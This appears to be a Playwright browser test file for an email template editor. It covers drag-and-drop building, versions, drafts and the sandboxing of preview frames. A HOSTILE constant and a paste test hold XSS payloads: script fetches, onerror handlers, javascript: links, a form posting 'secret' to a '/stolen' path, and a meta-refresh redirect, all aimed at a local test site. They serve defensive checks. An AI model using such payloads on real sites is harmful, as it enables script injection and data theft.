"""The visual editor: an email is put together with the mouse and with the keyboard, and nothing in it can run or reach the app."""

from __future__ import annotations

import json
import os
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route, StorageState, expect

from core.templates.blocks.document import Document, new_block, new_section
from core.templates.blocks.kinds import BlockKind
from tests.browser.conftest import Visit
from tests.support.browser import IDLE, heading, upload, wait_idle
from tests.support.canvas import drag, make, parts, row, settled, tile
from tests.support.landing import Landing, landing
from tests.support.product import Product
from tests.templates.images.making import photo, saved

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

# As no template is let through: what follows would reach the frame only if everything before it failed.
HOSTILE = """
<base href="{site}/">
<script>fetch("{site}/ran"); top.taken = 1; parent.document.title = "taken"; top.location = "{site}/taken"</script>
<script src="{site}/outer.js"></script>
<img src="{site}/picture.gif" alt="A picture"><img src="/nowhere.gif" onerror="fetch('{site}/handler'); top.taken = 1" alt="">
<img name="querySelectorAll" alt=""><form name="documentElement"></form><svg onload="top.taken = 1"></svg>
<a href="javascript:top.taken=1" id="go" autofocus onfocus="top.taken = 1">Go</a>
<form action="{site}/stolen" target="_top"><input name="q" value="secret" autofocus><button>Give</button></form>
<iframe srcdoc="<script>fetch('{site}/inner'); top.taken = 1</script>"></iframe><object data="{site}/object"></object>
<style>@import "{site}/harmless.css";</style>
"""
# What the walk drags together.
BUILT = [
    "Header",
    "Heading “Spring is here”",
    "Text “Now with more sun.”",
    "Picture “Hills with tea” (column 1)",
    "Button “See the teas” (column 2)",
    "Footer",
]
# What is about where the answer came from, not about what it may do.
OF_THE_WAY = {"content-length", "content-encoding", "x-frame-options"}
LEADS_AWAY = '<meta http-equiv="refresh" content="0; url={site}/refreshed">'
# As the page hands an email to the frame.
HAND_OVER = """(frame, html) => frame.contentWindow.postMessage({ postwright: "show", html, number: 0 }, "*")"""
REACHED = """() => { try { return parent.document.title } catch (error) { return error.name } }"""
COOKIES = """() => { try { return document.cookie } catch (error) { return error.name } }"""


@pytest.fixture
def page(visit: Visit, signed_in: StorageState) -> Page:
    return visit(storage_state=signed_in).new_page()


@pytest.fixture
def site() -> Iterator[Landing]:
    with landing() as started:
        yield started


def test_an_email_is_built_by_dragging_saved_changed_compared_and_taken_back(product: Product, page: Page) -> None:
    make(page, product.app_url, "Spring letter")
    build(page)
    see_it_on_a_phone(page)
    page.reload()
    heading(page, "Spring letter")
    save(page, "All is well", 2)
    page.get_by_role("radio", name="Edit").click()
    row(page, "Button").click()
    settled(page)
    page.get_by_role("toolbar", name="Chosen part").get_by_role("button", name="Delete").click()
    row(page, "Heading").click()
    settled(page)
    page.get_by_role("textbox", name="Text", exact=True).fill("Autumn is here")
    expect(page.frame_locator(".stage iframe").get_by_role("heading", name="Autumn is here")).to_be_visible()
    save(page, "In a hurry", 3)
    page.get_by_role("link", name="Versions", exact=True).click()
    compare_the_last_two(page)
    page.get_by_role("button", name="Restore", exact=True).first.click()
    page.get_by_role("button", name="Restore version 2").click()
    expect(page.get_by_text("Version 2 restored").first).to_be_visible()
    page.get_by_role("button", name="Open template").click()
    heading(page, "Spring letter")
    expect(page.get_by_text("version 4 ")).to_be_visible()
    email = page.frame_locator(".stage iframe")
    expect(email.get_by_role("heading", name="Spring is here")).to_be_visible()
    assert parts(page) == BUILT
    [listed] = product.run("templates", "list", "--search", "Spring letter")["templates"]
    assert listed["version"] == 4
    assert "See the teas" in json.dumps(product.run("templates", "render", "Spring letter"))


def build(page: Page) -> None:
    """Drag an email together: a heading, text, and a picture beside a button."""
    email = page.frame_locator(".stage iframe")
    drag(page, tile(page, "heading"), page.get_by_text("Drop something here"))
    assert parts(page) == ["Header", "Heading “Heading”", "Footer"]
    page.get_by_role("textbox", name="Text", exact=True).fill("Spring is here")
    expect(email.get_by_role("heading", name="Spring is here")).to_be_visible()
    settled(page)
    drag(page, tile(page, "text"), page.locator(".chosen"), share=0.9)
    words = page.get_by_role("textbox", name="Text", exact=True)
    words.fill("Now with more sun.")
    expect(email.get_by_text("Now with more sun.")).to_be_visible()
    settled(page)
    page.get_by_role("button", name="Undo").click()
    expect(email.get_by_text("Write something here.")).to_be_visible()
    settled(page)
    page.get_by_role("button", name="Redo").click()
    expect(email.get_by_text("Now with more sun.")).to_be_visible()
    settled(page)
    drag(page, tile(page, "1-1"), page.locator(".chosen"), share=0.9)
    drag(page, tile(page, "button"), page.get_by_text("Drop something here").last)
    page.get_by_role("textbox", name="Words", exact=True).fill("See the teas")
    page.get_by_role("textbox", name="Where it leads").fill("https://example.com/spring")
    page.keyboard.press("Tab")
    settled(page)
    drag(page, tile(page, "image"), page.get_by_text("Drop something here"))
    page.get_by_role("button", name="Choose or upload a picture").click()
    upload(page.locator("input[type=file]"), "hills.jpg", "image/jpeg", saved(photo(300, 200), "JPEG"))
    page.get_by_role("textbox", name="What it shows").last.fill("Hills with tea")
    page.get_by_role("button", name="Upload picture").click()
    expect(email.get_by_role("img", name="Hills with tea")).to_be_visible()
    expect(page.get_by_text("Draft saved")).to_be_visible()
    settled(page)
    drag(page, page.locator(".grip"), page.get_by_role("treeitem", name="Header"), drop=False)
    page.keyboard.press("Escape")
    page.mouse.up()
    assert parts(page) == BUILT


def see_it_on_a_phone(page: Page) -> None:
    """Look at it as readers get it: columns beside each other on a desk, below each other on a phone."""
    page.get_by_role("radio", name="Preview").click()
    shown = page.locator("iframe[title='Preview of the email']")
    picture = shown.content_frame.get_by_role("img", name="Hills with tea")
    button = shown.content_frame.get_by_role("link", name="See the teas")
    expect(picture).to_have_js_property("complete", True)
    wide = picture.bounding_box(), button.bounding_box()
    assert wide[0]
    assert wide[1]
    assert wide[1]["x"] > wide[0]["x"] + wide[0]["width"]
    assert wide[1]["y"] < wide[0]["y"] + wide[0]["height"]
    page.get_by_role("radio", name="Phone").click()
    wait_idle(page)
    expect(shown).to_have_css("width", "375px")
    frame, above, under = (one.bounding_box() for one in (shown, picture, button))
    assert frame
    assert above
    assert under
    assert under["y"] >= above["y"] + above["height"]
    for one in (above, under):
        assert frame["x"] <= one["x"]
        assert one["x"] + one["width"] <= frame["x"] + frame["width"]


def save(page: Page, note: str, number: int) -> None:
    """Save a version with a note; wait until it is there."""
    settled(page)
    page.get_by_role("button", name="Save version").click()
    dialog = page.get_by_role("dialog", name="Save version")
    dialog.get_by_role("textbox", name="What is new in it").fill(note)
    dialog.get_by_role("textbox", name="What is new in it").press("Tab")
    wait_idle(page)
    dialog.get_by_role("button", name="Save version").click()
    expect(page.get_by_text(f"version {number} ")).to_be_visible()
    expect(dialog).to_have_count(0)
    wait_idle(page)


def compare_the_last_two(page: Page) -> None:
    """Compare version 2 with version 3: side by side, and in words."""
    heading(page, "Versions of Spring letter")
    old, new = (page.frame_locator(f"iframe[title='Version {number} of the email']") for number in (2, 3))
    expect(old.get_by_role("heading", name="Spring is here")).to_be_visible()
    expect(new.get_by_role("heading", name="Autumn is here")).to_be_visible()
    expect(new.get_by_text("See the teas")).to_have_count(0)
    assert old.get_by_text("See the teas").evaluate("one => getComputedStyle(one.closest('[class*=pwb-]')).outlineStyle") == "dotted"
    for number in (2, 3):  # no script of an email runs, and none reaches the app
        sandbox = page.locator(f"iframe[title='Version {number} of the email']").get_attribute("sandbox") or ""
        assert "allow-scripts" not in sandbox
        assert "allow-same-origin" not in sandbox
    page.get_by_role("radio", name="What changed").click()
    expect(page.get_by_text("Button “See the teas”")).to_be_visible()
    expect(page.get_by_text("Text: “Spring is here” became “Autumn is here”")).to_be_visible()
    expect(page.get_by_text("In a hurry").first).to_be_visible()
    wait_idle(page)
    assert "comparison=What" in page.url
    assert "from=2" in page.url


def test_a_press_on_what_a_check_found_chooses_the_block_and_the_outline_knows_the_languages(
    product: Product, page: Page, tmp_path: Path
) -> None:
    faint = new_block(BlockKind.HEADING, text="Summer teas", colour="#dddddd")
    file = tmp_path / "faint.json"
    file.write_text(Document(sections=(new_section("1", faint), new_section("1", new_block(BlockKind.FOOTER)))).as_json())
    made = product.run("templates", "import", str(file), "--name", "Faint")
    page.goto(f"{product.app_url}/template_languages?id={made['template_id']}")
    heading(page, "Languages of Faint")
    page.get_by_role("button", name="Add a language").first.click()
    page.get_by_role("combobox", name="Language").fill("Deutsch")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Add", exact=True).click()
    expect(page.get_by_text("Language added.")).to_be_visible()
    page.get_by_role("button", name="Save translation").click()
    expect(page.get_by_text("Saved as a new version.")).to_be_visible()

    page.goto(f"{product.app_url}/template?id={made['template_id']}")
    heading(page, "Faint")
    settled(page)
    expect(row(page, "Summer teas").get_by_role("img", name="No words yet in Deutsch (de)")).to_have_text("de")
    page.get_by_role("radio", name="Preview").click()
    page.get_by_role("button", name="Check", exact=True).click()
    page.get_by_role("button", name="Section 1 · Heading “Summer teas”").first.click()

    expect(row(page, "Summer teas")).to_have_attribute("aria-selected", "true")
    expect(page.get_by_role("textbox", name="Text", exact=True)).to_have_value("Summer teas")


def test_a_draft_outlives_a_reload_another_tab_and_a_restart(product: Product, page: Page) -> None:
    make(page, product.app_url, "Half way")
    tile(page, "heading").click()
    settled(page)
    page.get_by_role("textbox", name="Text", exact=True).fill("Half way there")
    expect(page.frame_locator(".stage iframe").get_by_text("Half way there")).to_be_visible()
    expect(page.get_by_text("Draft saved")).to_be_visible()
    page.reload()
    heading(page, "Half way")
    expect(page.get_by_text("This is the draft that you kept")).to_be_visible()
    assert parts(page) == ["Header", "Heading “Half way there”", "Footer"]

    other = page.context.new_page()
    other.goto(page.url)
    heading(other, "Half way")
    tile(other, "divider").click()
    settled(other)
    tile(page, "quote").click()
    expect(page.get_by_text("Ada changed this draft")).to_be_visible()
    page.get_by_role("button", name="Load theirs").click()
    expect(row(page, "Line")).to_be_visible()
    settled(page)
    other.close()
    tile(page, "spacer").click()
    settled(page)
    assert parts(page) == ["Header", "Heading “Half way there”", "Line", "Space", "Footer"]

    restart_the_app(product, page)
    expect(page.get_by_text("This is the draft that you kept")).to_be_visible()
    assert parts(page) == ["Header", "Heading “Half way there”", "Line", "Space", "Footer"]
    tile(page, "quote").click()
    settled(page)
    assert len(parts(page)) == 6


def test_a_version_that_was_saved_meanwhile_is_not_undone_unseen(product: Product, page: Page, tmp_path: Path) -> None:
    make(page, product.app_url, "Overtaken")
    file = tmp_path / "theirs.json"
    file.write_text(Document(sections=(new_section("1", new_block(BlockKind.QUOTE)),)).as_json())
    product.run("templates", "import", str(file), "--name", "Overtaken")
    tile(page, "heading").click()
    expect(page.get_by_text("Version 2 was saved meanwhile")).to_be_visible()
    page.get_by_role("button", name="Load theirs").click()
    expect(row(page, "Quote")).to_be_visible()
    assert parts(page) == ["Quote “What somebody said.”"]


def restart_the_app(product: Product, page: Page) -> None:
    """Kill the app's server; try to go on without it; wait until another one is there."""
    assert product.process
    listed = subprocess.run(["ps", "-o", "pid=,args=", "--ppid", str(product.process.pid)], capture_output=True, text=True, check=True)
    [pid] = [int(line.split()[0]) for line in listed.stdout.splitlines() if "core.ui.server" in line]
    os.kill(pid, signal.SIGKILL)
    page.wait_for_selector("[data-test-connection-state]:not([data-test-connection-state=CONNECTED])")
    tile(page, "quote").click()
    expect(page.get_by_text("Not connected")).to_be_visible()
    page.wait_for_selector(IDLE)
    settled(page)
    expect(page.get_by_text("Not connected")).to_have_count(0)


def test_blocks_and_sections_are_dragged_to_other_places(product: Product, page: Page) -> None:
    make(page, product.app_url, "Moved", "heading", "divider")
    tile(page, "1-1").click()
    settled(page)
    row(page, "Line").click()
    settled(page)
    page.get_by_role("button", name="Choose its section").click()
    expect(page.get_by_role("heading", name="Section", exact=True)).to_be_visible()
    page.locator(".stage").click(position={"x": 250, "y": 75})  # by where it is
    expect(page.get_by_role("heading", name="Heading", exact=True).first).to_be_visible()
    row(page, "Heading").click()
    settled(page)
    drag(page, page.locator(".grip"), page.get_by_text("Drop something here").last)
    assert parts(page) == ["Header", "Line", "Heading “Heading” (column 2)", "Footer"]
    page.get_by_role("treeitem", name="Section 3").click()
    settled(page)
    top = page.locator(".stage")
    drag(page, page.locator(".grip"), top, share=0.01)
    assert parts(page)[:2] == ["Heading “Heading” (column 2)", "Header"]


def test_quick_steps_are_all_done_in_their_order(product: Product, page: Page) -> None:
    make(page, product.app_url, "Quick")
    for kind in ("heading", "divider", "spacer", "quote", "divider", "heading"):
        tile(page, kind).click()
    settled(page)
    assert [name.split(" ")[0] for name in parts(page)] == ["Header", "Heading", "Line", "Space", "Quote", "Line", "Heading", "Footer"]


def test_pasted_text_keeps_its_meaning_and_nothing_else(product: Product, page: Page) -> None:
    make(page, product.app_url, "Pasted")
    tile(page, "text").click()
    settled(page)
    words = page.get_by_role("textbox", name="Text", exact=True)
    words.click()
    page.keyboard.press("Control+a")
    words.evaluate(
        """(area, html) => {
            const carried = new DataTransfer()
            carried.setData("text/html", html)
            area.dispatchEvent(new ClipboardEvent("paste", { clipboardData: carried, bubbles: true, cancelable: true }))
        }""",
        "<p style='font-size:90px' onclick='top.taken=1'>Sun <b>and</b> <img src=x onerror='top.taken=1'><script>top.taken=1</script>"
        "<a href='javascript:top.taken=1'>rain</a></p>",
    )
    email = page.frame_locator(".stage iframe")
    expect(email.get_by_text("Sun and rain")).to_be_visible()
    settled(page)
    assert "onclick" not in words.inner_html()
    assert "90px" not in words.inner_html()
    assert page.evaluate("() => window.taken") is None


def put_into_frames(page: Page, site: Landing, hostile: str) -> None:
    """Let every email on show hold something hostile besides, under the policy that the app has given it."""

    def with_hostile(route: Route) -> None:
        # From a real server: what Playwright answers itself has no place in a network, and would be cut off from this one.
        answer, path = route.fetch(), f"/given{len(site.given)}"
        headers = {name: value for name, value in answer.headers.items() if name not in OF_THE_WAY}
        headers["content-security-policy"] = headers["content-security-policy"].replace("frame-ancestors 'self'", "frame-ancestors *")
        body = answer.text().replace("</body>", hostile.format(site=site.url) + "</body>")
        site.given[path] = (headers, body.encode())
        route.continue_(url=site.url + path)

    page.route("**/frames/*", with_hostile)


def test_whatever_an_email_holds_it_can_not_run_or_reach_the_app_from_the_canvas(product: Product, page: Page, site: Landing) -> None:
    make(page, product.app_url, "Hostile on the canvas")
    address = page.url
    with page.expect_response(f"{site.url}/picture.gif"):  # pictures are live
        page.locator(".stage iframe").evaluate(HAND_OVER, f"<!doctype html><html><body>{HOSTILE.format(site=site.url)}</body></html>")
    expect(page.frame_locator(".stage iframe").get_by_role("link", name="Go")).to_be_attached()
    assert page.locator(".stage iframe").get_attribute("sandbox") == "allow-scripts"
    nothing_was_reached(page, ".stage iframe", site, address)
    tile(page, "heading").click()
    settled(page)
    expect(page.frame_locator(".stage iframe").get_by_role("heading", name="Heading")).to_be_visible()
    expect(page.locator(".chosen")).to_be_visible()  # blocks are found as if nothing had been


def test_whatever_an_email_holds_it_can_not_run_or_reach_the_app_from_the_preview(product: Product, page: Page, site: Landing) -> None:
    make(page, product.app_url, "Hostile in the preview")
    address = page.url
    put_into_frames(page, site, LEADS_AWAY + HOSTILE)
    with page.expect_response(f"{site.url}/picture.gif"):
        page.get_by_role("radio", name="Preview").click()
    preview = "iframe[title='Preview of the email']"
    expect(page.frame_locator(preview).get_by_role("link", name="Go")).to_be_attached()
    wait_idle(page)
    nothing_was_reached(page, preview, site, address)


def nothing_was_reached(page: Page, shown: str, site: Landing, address: str) -> None:
    """Check that what is in a frame has no origin, no cookies and no parent, and that nothing of it ran or asked for anything."""
    handle = page.locator(shown).element_handle()
    frame = handle.content_frame() if handle else None
    assert frame
    assert frame.evaluate("() => self.origin") == "null"
    assert frame.evaluate(REACHED) == frame.evaluate(COOKIES) == "SecurityError"
    assert page.evaluate("() => [window.taken ?? null, document.title]") == [None, "Template · Postwright"]
    assert page.url == address
    assert set(site.asked) - {"/favicon.ico", *site.given} <= {"/picture.gif", "/harmless.css"}


def test_an_email_that_leads_its_frame_away_gets_nowhere_and_the_next_state_is_shown(product: Product, page: Page, site: Landing) -> None:
    make(page, product.app_url, "Leading away")
    address = page.url
    with page.expect_console_message(lambda message: "frame-src" in message.text):
        page.locator(".stage iframe").evaluate(HAND_OVER, f"<!doctype html><html><head>{LEADS_AWAY.format(site=site.url)}</head></html>")
    tile(page, "heading").click()
    settled(page)
    expect(page.frame_locator(".stage iframe").get_by_role("heading", name="Heading")).to_be_visible()
    assert page.url == address
    assert not site.asked


def test_what_the_frame_says_is_believed_only_in_its_shape(product: Product, page: Page) -> None:
    make(page, product.app_url, "Liar")
    lies = """() => {
        for (const said of [{ postwright: "measured", height: 1e12, rects: [["<b>x</b>", 0, 0, 9, 9], ["abcd", NaN, 0, 1, 1], 5] },
                            { postwright: "measured", rects: "x" }, "x", null]) parent.postMessage(said, "*")
    }"""
    frame = next(one for one in page.frames if "/frames/" in one.url)
    page.evaluate("() => window.postMessage({ postwright: 'measured', height: 9, rects: [] }, '*')")
    assert page.locator(".stage").evaluate("stage => stage.offsetHeight") > 100
    frame.evaluate(lies)
    tile(page, "heading").click()
    settled(page)
    assert parts(page) == ["Header", "Heading “Heading”", "Footer"]
    assert page.locator(".stage").evaluate("stage => stage.offsetHeight") < 40_000
